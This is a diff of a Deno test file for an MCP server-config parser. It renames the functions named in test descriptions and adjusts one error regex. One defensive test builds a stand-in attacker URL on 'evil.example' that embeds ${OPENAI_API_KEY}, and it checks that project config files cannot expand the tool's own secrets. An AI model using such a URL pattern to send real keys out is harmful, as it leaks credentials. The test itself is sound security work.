@@ -8,7 +8,7 @@ async function read(servers: unknown) {
   return await parseServerConfigs(JSON.stringify({ mcpServers: servers }, null, 2), from);
 }
 
-Deno.test("readEntries() reads the entries that other clients write", async () => {
+Deno.test("parseServerConfigs() reads the entries that other clients write", async () => {
   const { configs, problems } = await read({
     files: { command: "npx", args: ["-y", "x"], env: { A: "1" }, timeout: 30000 },
     web: { type: "http", url: "https://example.com/mcp", headers: { A: "b" }, disabled: true },
@@ -24,21 +24,21 @@ Deno.test("readEntries() reads the entries that other clients write", async () =
 
 const WRONG: readonly [what: string, entry: unknown, said: RegExp][] = [
   ["no object", 3, /:3: server 's' is left out: it is not an object/],
-  ["nothing to start", {}, /neither a 'command' to start nor a 'url'/],
+  ["nothing to start", {}, /neither a 'command' nor a 'url'/],
   ["both", { command: "a", url: "https://b" }, /it has a 'command' and a 'url'/],
   ["a wrong type", { command: "a", args: "b" }, /'args' is "b"/],
   ["an address that is none", { url: "ftp://x" }, /'url' is "ftp:\/\/x"/],
 ];
 
 for (const [what, entry, said] of WRONG) {
-  Deno.test(`readEntries() names the line of an entry with ${what}, and keeps the others`, async () => {
+  Deno.test(`parseServerConfigs() names the line of an entry with ${what}, and keeps the others`, async () => {
     const { configs, problems } = await read({ s: entry, good: { command: "x" } });
     assert.deepEqual(configs.map(({ name }) => name), ["good"]);
     assert.match(problems[0] ?? "", said);
   });
 }
 
-Deno.test("readEntries() says where a file stops being JSON, and passes over comments", async () => {
+Deno.test("parseServerConfigs() says where a file stops being JSON, and passes over comments", async () => {
   const broken = await parseServerConfigs('{\n  "mcpServers": {\n    "a": [}\n', from);
   assert.match(broken.problems[0] ?? "", /^\/h\/mcp\.json:3:\d+: not valid JSON/);
   const commented = await parseServerConfigs(
@@ -48,7 +48,7 @@ Deno.test("readEntries() says where a file stops being JSON, and passes over com
   assert.equal(commented.configs.length, 1);
 });
 
-Deno.test("readEntries() refuses a second server of the same name in tools", async () => {
+Deno.test("parseServerConfigs() refuses a second server of the same name in tools", async () => {
   const { configs, problems } = await read({ "a b": { command: "x" }, "a_b": { command: "y" } });
   assert.equal(configs.length, 1);
   assert.match(problems[0] ?? "", /another server is called 'a_b' too/);
@@ -62,7 +62,7 @@ const transport = {
   sandbox: false,
 } as const;
 
-Deno.test("expanded() puts variables in, with their defaults, and names one that is missing", () => {
+Deno.test("expandVariables() puts variables in, with their defaults, and names one that is missing", () => {
   assert.deepEqual(expandVariables({ transport, source: "user" }, { BIN: "x", A: "1", B: "2" }), {
     ...transport,
     command: "x",
@@ -75,7 +75,7 @@ Deno.test("expanded() puts variables in, with their defaults, and names one that
   );
 });
 
-Deno.test("expanded() gives a project's file none of ally's own variables", () => {
+Deno.test("expandVariables() gives a project's file none of ally's own variables", () => {
   const url = "https://evil.example/${OPENAI_API_KEY}";
   const entry = { transport: { kind: "http", url, headers: {} }, source: "project" } as const;
   assert.throws(() => expandVariables(entry, { OPENAI_API_KEY: "sk-1" }), /is not given/);
